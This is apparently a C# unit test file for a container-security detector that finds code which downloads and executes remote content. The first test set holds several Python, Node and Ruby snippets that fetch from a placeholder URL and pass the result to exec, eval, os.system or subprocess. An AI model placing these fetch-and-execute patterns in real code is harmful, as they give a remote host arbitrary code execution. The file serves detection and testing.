using System.Diagnostics;
using ContainerSecurity.Shell.Flow.Texts;

namespace Build.Tests.Shell.Flow;

/// <summary>Whole programs use the names of what runs code for much else.</summary>
public sealed class ProgramCodeTests
{
    [Theory]
    [InlineData("python", 2, "import requests\nexec(requests.get('https://a.b/c').text)\n")]
    [InlineData("python", 3, "import os, requests\nr = requests.get('https://a.b/c')\nos.system(r.text)\n")]
    [InlineData("python", 3, "import subprocess, requests\nr = requests.get('https://a.b/c')\nsubprocess.run(r.text, shell=True)\n")]
    [InlineData("python", 3, "import subprocess as p, requests\nr = requests.get('https://a.b/c')\np.run(['bash', '-c', r.text])\n")]
    [InlineData("python", 2, "import requests\n__import__('os').system(requests.get('https://a.b/c').text)\n")]
    [InlineData("node", 2, "const t = await (await fetch('https://a.b/c')).text()\neval(t)\n")]
    [InlineData("node", 3, "const c = require('child_process')\nconst t = await fetch('https://a.b/c')\nc.exec(t)\n")]
    [InlineData("node", 2, "import { exec } from 'node:child_process'\nexec(await (await fetch('https://a.b/c')).text())\n")]
    [InlineData("node", 1, "await import(await fetch('https://a.b/c'))\n")]
    [InlineData("node", 3, "const c=require('node:child_process')\nconst t = await fetch('https://a.b/c')\nc.exec(t)\n")]
    [InlineData("node", 3, "import run from 'child_process'\nconst t = await fetch('https://a.b/c')\nrun.exec(t)\n")]
    [InlineData("python", 3, "s = __import__('subprocess')\nr = requests.get('https://a.b/c')\ns.run(r.text, shell=True)\n")]
    [InlineData("python", 4, "n = 'a' + \\\n    'b'\nimport requests\nexec(requests.get('https://a.b/c').text)\n")]
    [InlineData("ruby", 2, "require 'open-uri'\neval URI.open('https://a.b/c').read\n")]
    public void What_is_fetched_and_run_is_found_in_its_line(string language, int line, string code) =>
        Assert.Equal(line, LanguageCode.Judge(language, code).RunsFetchedIn);

    [Theory]
    [InlineData("python", "import requests\nq = requests.get('https://a.b/c').json()\nsession.exec(q)\nmodel.eval(q)\nre.compile(q)\n")]
    [InlineData("python", "import asyncio, httpx\nasyncio.run(main(httpx.get('https://a.b/c')))\nuvicorn.run(app)\n")]
    [InlineData("python", "import subprocess, requests\nv = requests.get('https://a.b/c').json()['v']\nsubprocess.run(['git', 'checkout', v])\n")]
    [InlineData("python", "import requests\n# exec(requests.get('https://a.b/c').text)\nprint(requests.get('https://a.b/c'))\n")]
    [InlineData("node", "const t = await fetch('https://a.b/c')\nconst m = /a/.exec(t)\nconst n = new RegExp(x).exec(t)\n")]
    [InlineData("node", "import axios from 'axios'\nexport default axios.get('https://a.b/c')\n")]
    [InlineData("node", "const { spawn } = require('child_process')\nconst t = await fetch('https://a.b/c')\nspawn('convert', [t])\n")]
    [InlineData("node", "const db = open()\nconst t = await fetch('https://a.b/c')\ndb.exec(t)\n")]
    [InlineData("node", "import { parse } from 'child_process'\nconst t = await fetch('https://a.b/c')\nparse.exec(t)\n")]
    [InlineData("node", "const c = require('child_process').name\nconst t = await fetch('https://a.b/c')\nregexp.exec(t)\n")]
    [InlineData("ruby", "require 'open-uri'\nYAML.load(URI.open('https://a.b/c'))\n")]
    public void What_only_has_the_name_is_not(string language, string code) => Assert.Null(LanguageCode.Judge(language, code).RunsFetchedIn);

    [Theory]
    [InlineData("x.exec(")]
    [InlineData(").exec ")]
    [InlineData("'a'+\n")]
    [InlineData("* as child_process ")]
    [InlineData("a = 'child_process")]
    [InlineData("exec(a)\n")]
    [InlineData("exec(")]
    [InlineData("exec `a b")]
    [InlineData("\\'")]
    public void Long_code_is_judged_in_time(string part)
    {
        var code = string.Concat(Enumerable.Repeat(part, (1 << 19) / part.Length));
        var clock = Stopwatch.StartNew();
        LanguageCode.Judge("node", code);
        LanguageCode.Judge("awk", code);
        LanguageCode.Judge("php", code);
        Assert.InRange(clock.Elapsed.TotalSeconds, 0, 10);
    }
}
